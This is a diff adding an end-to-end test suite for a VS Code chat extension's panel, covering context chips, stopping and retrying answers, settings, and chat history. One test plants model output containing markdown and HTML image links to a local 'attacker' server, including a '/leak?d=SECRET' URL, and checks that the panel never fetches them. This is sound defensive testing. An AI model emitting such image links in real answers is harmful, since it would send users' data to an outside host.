@@ -1,0 +1,233 @@
+// The chat panel as a user drives it in a real VS Code (code-server): typing in the panel, context
+// chips, Stop / Retry / Continue, model controls persisting to settings, history across a window
+// reload, and no remote fetch for images in model output — also when a chat is reopened.
+import { randomBytes } from 'node:crypto';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Frame, Page } from 'playwright-core';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { FakeResponsesServer } from '../fake-server/fakeResponsesServer';
+import { installExtension, repoRoot, resultsDir, startCodeServer, type RunningCodeServer } from '../harness/codeServer';
+import { chatFrame, openFile, openWorkbench, runCommand, saveScreenshot, selectLines, type Workbench } from '../harness/workbench';
+
+const SAMPLE_PATH = 'src/inventory.ts';
+const SAMPLE = [
+  'export interface Item {',
+  '  name: string;',
+  '  count: number;',
+  '}',
+  '',
+  'export function total(items: Item[]): number {',
+  '  return items.reduce((sum, item) => sum + item.count, 0);',
+  '}',
+  '',
+].join('\n');
+
+async function until<T>(probe: () => Promise<T | undefined | false>, what: string, timeoutMs = 20_000): Promise<T> {
+  const deadline = Date.now() + timeoutMs;
+  for (;;) {
+    const value = await probe();
+    if (value !== undefined && value !== false) return value;
+    if (Date.now() > deadline) throw new Error(`Timed out waiting for ${what}`);
+    await new Promise((done) => setTimeout(done, 50));
+  }
+}
+
+function lastTurn(frame: Frame) {
+  return frame.locator('article.turn').last();
+}
+
+async function turnStatus(frame: Frame): Promise<string | null> {
+  return lastTurn(frame).getAttribute('data-status');
+}
+
+async function sendFromPanel(frame: Frame, text: string): Promise<void> {
+  const input = frame.locator('.prompt-input');
+  await input.click();
+  await input.fill(text);
+  await input.press('Enter');
+}
+
+describe('the Codewright chat panel in a real VS Code', () => {
+  const workDir = mkdtempSync(join(tmpdir(), 'codewright-e2e-chat-'));
+  const workspaceDir = join(workDir, 'workspace');
+  const apiKey = `sk-e2e-${randomBytes(12).toString('hex')}`;
+  let fake: FakeResponsesServer;
+  let server: RunningCodeServer;
+  let workbench: Workbench;
+  let page: Page;
+  let frame: Frame;
+  let attacker: http.Server;
+  let attackerHits = 0;
+  let attackerUrl = '';
+
+  beforeAll(async () => {
+    mkdirSync(join(workspaceDir, 'src'), { recursive: true });
+    writeFileSync(join(workspaceDir, SAMPLE_PATH), SAMPLE);
+    attacker = http.createServer((_req, res) => {
+      attackerHits++;
+      res.end('gotcha');
+    });
+    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
+    attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
+    const extensionsDir = join(workDir, 'extensions');
+    installExtension(join(repoRoot(), 'codewright.vsix'), extensionsDir);
+    fake = await FakeResponsesServer.start({ expectedApiKey: apiKey });
+    server = await startCodeServer({
+      workspaceDir,
+      extensionsDir,
+      userSettings: { 'codewright.baseURL': fake.baseURL },
+      env: { OPENAI_API_KEY: apiKey, CODEWRIGHT_DEMO_BASE_URL: undefined },
+      saveLogsTo: join(resultsDir(), 'chat-panel-vscode-logs'),
+    });
+    workbench = await openWorkbench(server.url, workspaceDir, { consoleLogFile: join(resultsDir(), 'chat-panel-browser-console.log') });
+    page = workbench.page;
+    // Contributed commands exist once the extension's container shows in the activity bar.
+    await page.locator('.activitybar [aria-label^="Codewright"]').first().waitFor({ timeout: 60_000 });
+    await openFile(page, workspaceDir, SAMPLE_PATH);
+    await runCommand(page, 'Codewright: Open Chat');
+    frame = await chatFrame(page);
+  });
+
+  afterAll(async () => {
+    await workbench?.close().catch(() => undefined);
+    await server?.stop();
+    await fake?.close();
+    await new Promise<void>((resolve) => attacker?.close(() => resolve()));
+    rmSync(workDir, { recursive: true, force: true });
+  });
+
+  beforeEach(({ task, onTestFailed }) => {
+    onTestFailed(async () => {
+      if (page) await saveScreenshot(page, `chat-panel-${task.name}`).catch(() => undefined);
+    });
+  });
+
+  it('shows the selection and open file as chips, and sends only the chips the user kept', async () => {
+    await selectLines(page, 6, 8);
+    await until(async () => (await frame.locator('.chip-selection').count()) > 0, 'the selection chip');
+    expect(await frame.locator('.chip-selection .chip-detail').textContent()).toBe('lines 6–8');
+    expect(await frame.locator('.chip-file .chip-label').first().textContent()).toBe(SAMPLE_PATH);
+
+    await frame.locator('.chip-file .icon-button[data-action="remove-chip"]').first().click();
+    await until(async () => (await frame.locator('.chip-file').count()) === 0, 'the file chip to go away');
+
+    fake.enqueue({ output: [{ type: 'message', text: 'It sums the counts.', chunks: 3 }] });
+    const before = fake.requests.length;
+    await sendFromPanel(frame, 'What does total() return?');
+    await until(async () => (await turnStatus(frame)) === 'completed', 'the answer');
+    expect(await lastTurn(frame).locator('.answer').textContent()).toContain('It sums the counts.');
+    expect(await frame.locator('.prompt-input').inputValue()).toBe('');
+
+    const body = fake.requests[before].body as { input: { content: { type: string; text?: string }[] }[] };
+    const parts = body.input.flatMap((item) => item.content);
+    expect(parts.some((part) => part.type === 'input_file')).toBe(false);
+    expect(parts.some((part) => part.type === 'input_text' && part.text?.includes('item.count'))).toBe(true);
+    // After sending, the removed chip comes back for the next question.
+    await until(async () => (await frame.locator('.chip-file').count()) > 0, 'the file chip to come back');
+  });
+
+  it('stops a streaming answer with Escape, keeps the partial text, and retries it', async () => {
+    const index = fake.requests.length;
+    fake.enqueue(
+      { output: [{ type: 'message', text: 'token '.repeat(300), chunks: 300 }], chunkDelayMs: 40 },
+      { output: [{ type: 'message', text: 'The retried answer.', chunks: 2 }] },
+    );
+    await sendFromPanel(frame, 'Tell me everything');
+    await until(async () => ((await lastTurn(frame).locator('.answer').textContent()) ?? '').length > 30, 'some streamed text');
+    await frame.locator('.prompt-input').press('Escape');
+    await until(async () => (await turnStatus(frame)) === 'stopped', 'the stopped state');
+    const partial = (await lastTurn(frame).locator('.answer').textContent()) ?? '';
+    expect(partial.length).toBeGreaterThan(30);
+    expect(partial.length).toBeLessThan('token '.repeat(300).length);
+    await fake.connectionClosed(index);
+    expect(fake.requests[index].clientClosedEarly).toBe(true);
+
+    await lastTurn(frame).locator('[data-action="retry"]').click();
+    await until(async () => (await turnStatus(frame)) === 'completed', 'the retried answer');
+    expect(await lastTurn(frame).locator('.answer').textContent()).toContain('The retried answer.');
+  });
+
+  it('offers Continue when the answer hits the output limit and continues in the same turn', async () => {
+    fake.enqueue(
+      { output: [{ type: 'message', text: 'First half, ' }], status: 'incomplete', incompleteReason: 'max_output_tokens' },
+      { output: [{ type: 'message', text: 'second half.' }] },
+    );
+    await sendFromPanel(frame, 'Write a long answer');
+    await until(async () => (await turnStatus(frame)) === 'incomplete', 'the incomplete state');
+    expect(await lastTurn(frame).locator('.turn-status').textContent()).toContain('output token limit');
+    const turns = await frame.locator('article.turn').count();
+    await lastTurn(frame).locator('[data-action="continue"]').click();
+    await until(async () => (await turnStatus(frame)) === 'completed', 'the continued answer');
+    expect(await frame.locator('article.turn').count()).toBe(turns);
+    expect(await lastTurn(frame).locator('.answer').textContent()).toContain('First half, second half.');
+  });
+
+  it('persists model controls changed in the panel to the user settings', async () => {
+    await frame.locator('select.control-effort').selectOption('high');
+    await frame.locator('select.control-verbosity').selectOption('low');
+    const settingsFile = join(server.userDataDir, 'User', 'settings.json');
+    await until(async () => {
+      const text = readFileSync(settingsFile, 'utf8');
+      return text.includes('"codewright.reasoningEffort": "high"') && text.includes('"codewright.verbosity": "low"');
+    }, 'settings.json to hold the new values');
+    fake.enqueue({ output: [{ type: 'message', text: 'ok' }] });
+    const before = fake.requests.length;
+    await sendFromPanel(frame, 'Short answer please');
+    await until(async () => fake.requests.length > before && (await turnStatus(frame)) === 'completed', 'the answer');
+    const body = fake.requests[before].body as { reasoning: { effort: string }; text: { verbosity: string } };
+    expect(body.reasoning.effort).toBe('high');
+    expect(body.text.verbosity).toBe('low');
+    expect(await lastTurn(frame).locator('.turn-footer').textContent()).toContain('effort high');
+  });
+
+  it('never fetches a remote image from model output, and keeps the chat across a window reload', async () => {
+    fake.enqueue({
+      output: [
+        {
+          type: 'message',
+          text: `Here: ![secret](${attackerUrl}/leak?d=SECRET) and ![ref][img] <img src="${attackerUrl}/raw.png">\n\n[img]: ${attackerUrl}/ref.png\n`,
+          chunks: 6,
+        },
+      ],
+    });
+    await sendFromPanel(frame, 'Show me a picture');
+    await until(async () => (await turnStatus(frame)) === 'completed', 'the answer with images');
+    const turnsBefore = await frame.locator('article.turn').count();
+    await page.waitForTimeout(500);
+    expect(attackerHits).toBe(0);
+    expect(await lastTurn(frame).locator('img').count()).toBe(0);
+
+    const seenCounts = new Set<number>();
+    await page.reload();
+    await page.locator('.monaco-workbench').waitFor({ timeout: 60_000 });
+    await page.locator('.activitybar [aria-label^="Codewright"]').first().waitFor({ timeout: 60_000 });
+    await runCommand(page, 'Codewright: Open Chat');
+    // The webview is created anew after a reload; look it up until it shows the restored chat.
+    frame = await until(async () => {
+      const current = await chatFrame(page);
+      const count = await current.locator('article.turn').count().catch(() => -1);
+      seenCounts.add(count);
+      return count === turnsBefore ? current : undefined;
+    }, 'the restored chat', 60_000).catch((err: Error) => {
+      throw new Error(`${err.message}: expected ${turnsBefore} turns, saw counts ${[...seenCounts].join(', ')}`);
+    });
+    expect(await lastTurn(frame).locator('.answer').textContent()).toContain('Here:');
+    await page.waitForTimeout(500);
+    expect(attackerHits).toBe(0);
+
+    // History: New Chat empties the transcript; the old chat can be reopened from the list.
+    await frame.locator('.chat-header [data-action="new-chat"]').click();
+    await until(async () => (await frame.locator('article.turn').count()) === 0, 'an empty chat');
+    await frame.locator('[data-action="toggle-history"]').click();
+    const entry = frame.locator('.history-list [data-action="open-conversation"]').first();
+    expect(await entry.locator('.history-title').textContent()).toBe('What does total() return?');
+    await entry.click();
+    await until(async () => (await frame.locator('article.turn').count()) === turnsBefore, 'the reopened chat');
+    await page.waitForTimeout(500);
+    expect(attackerHits).toBe(0);
+  });
+});
